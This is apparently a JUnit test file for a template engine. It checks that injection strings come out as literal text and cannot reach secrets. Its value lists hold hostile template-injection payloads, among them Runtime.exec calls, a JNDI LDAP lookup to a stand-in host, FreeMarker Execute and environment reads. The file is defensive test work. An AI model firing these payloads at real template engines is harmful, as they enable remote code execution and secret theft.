package dev.hearken.language.template;

import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.databind.node.TextNode;
import dev.hearken.model.delivery.RenderedBody;
import dev.hearken.test.marks.Threat;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/** Texts that other template engines would run. */
@Timeout(120) // a guard against hanging
class TemplateInjectionTest {
    private static String filled(RenderedBody body, CallbackScope scope) {
        return SecretFiller.fill(body, scope::secret)
                .fold(bytes -> new String(bytes, StandardCharsets.UTF_8), missing -> "missing " + missing);
    }

    private static String rendered(String template, CallbackScope scope) {
        return filled(
                Scopes.rendered(BodyTemplate.of(TextNode.valueOf(template), "text/plain")
                        .render(scope, false)),
                scope);
    }

    @ParameterizedTest
    @Threat("D7")
    @ValueSource(
            strings = {
                "{{7*7}}",
                "${7*7}",
                "#{7*7}",
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "${jndi:ldap://evil.example/a}",
                "${env:HOME}",
                "{inject:cache}",
                "{#include secret /}",
                "<#assign x='freemarker.template.utility.Execute'?new()>",
                "%{(#a=@java.lang.Runtime@getRuntime())}",
                "<%= 7*7 %>",
                "[[${7*7}]]",
                "{% for x in y %}",
                "${${{",
                "$\u0000{{x}}"
            })
    void areSentAsTheyStandWhereverTheyCome(String hostile) {
        // given
        CallbackScope scope = Scopes.of(JsonNodeFactory.instance
                .objectNode()
                .set("metadata", JsonNodeFactory.instance.objectNode().put("v", hostile))
                .toString());

        // then
        assertThat(rendered("${{metadata.v}}", scope)).isEqualTo(hostile);
        assertThat(rendered("a ${{metadata.v}} ${{metadata.v | default('b')}}", scope))
                .isEqualTo("a " + hostile + " " + hostile);
        if (!hostile.contains("${{")) {
            assertThat(rendered(hostile, scope)).isEqualTo(hostile);
        }
    }

    @ParameterizedTest
    @Threat("D7")
    @ValueSource(
            strings = {
                "${{secrets.token}}",
                "${{ secrets.plain }}",
                "${{metadata.v}}",
                "${{event}}",
                "$${{secrets.token}}",
                "}}${{secrets.token}}",
                "secrets.token}}"
            })
    void areNoReferencesWhenTheyComeFromAnEvent(String hostile) {
        // given
        ObjectNode metadata = JsonNodeFactory.instance
                .objectNode()
                .put("v", hostile)
                .put("a", "${{sec")
                .put("b", "rets.token}}");
        CallbackScope scope = Scopes.of(
                JsonNodeFactory.instance.objectNode().set("metadata", metadata).toString());

        // when
        RenderedBody once = Scopes.rendered(
                BodyTemplate.of(TextNode.valueOf("${{metadata.v}}"), "").render(scope, false));

        // then
        assertThat(once.slots()).isEmpty();
        assertThat(filled(once, scope)).isEqualTo(hostile);
        assertThat(rendered("${{metadata.a}}${{metadata.b}}", scope)).isEqualTo("${{secrets.token}}");
        assertThat(Scopes.rendered(
                        HeaderTemplate.of(Template.of("${{metadata.v}}")).render(scope, false)))
                .isEqualTo(hostile);
    }

    @Test
    @Threat("D7")
    void areNoReferencesWhenTheyComeFromASecret() {
        // given
        RenderedBody body =
                Scopes.rendered(BodyTemplate.of(TextNode.valueOf("${{secrets.one}} ${{secrets.two}}"), "text/plain")
                        .render(Scopes.standard(), false));

        // when
        String filled = SecretFiller.fill(body, name -> Optional.of("${{secrets.two}}"))
                .fold(bytes -> new String(bytes, StandardCharsets.UTF_8), missing -> "missing " + missing);

        // then
        assertThat(filled).isEqualTo("${{secrets.two}} ${{secrets.two}}");
    }

    @ParameterizedTest
    @Threat({"D6", "D7"})
    @ValueSource(
            strings = {
                "${{7*7}}",
                "${{inject:cache}}",
                "${{jndi:ldap://evil.example/a}}",
                "${{java.lang.Runtime}}",
                "${{T(java.lang.Runtime)}}",
                "${{@java.lang.Runtime@getRuntime()}}",
                "${{env.HOME}}",
                "${{system.properties}}",
                "${{event.getClass()}}",
                "${{event.id.toString()}}",
                "${{metadata..id}}",
                "${{metadata.*}}",
                "${{metadata[*]}}",
                "${{metadata[?(@.a==1)]}}",
                "${{metadata[(1+1)]}}",
                "${{$..secrets}}",
                "${{event.id | exec('id')}}",
                "${{event.id + secrets.token}}",
                "${{${{event.id}}}}"
            })
    void areNoTemplates(String hostile) {
        assertThat(Template.parse(hostile)
                        .<Optional<String>>fold(
                                template -> Optional.empty(), malformed -> Optional.of(malformed.detail())))
                .isPresent();
    }

    @Test
    @Threat("D8")
    void endAtTheirBoundsHoweverManyReferencesThereAre() {
        assertThat(Template.parse("${{event.id}}".repeat(1_000_000))
                        .<String>fold(Template::toString, malformed -> malformed.detail()))
                .contains("" + Template.MAX_LENGTH);
    }
}
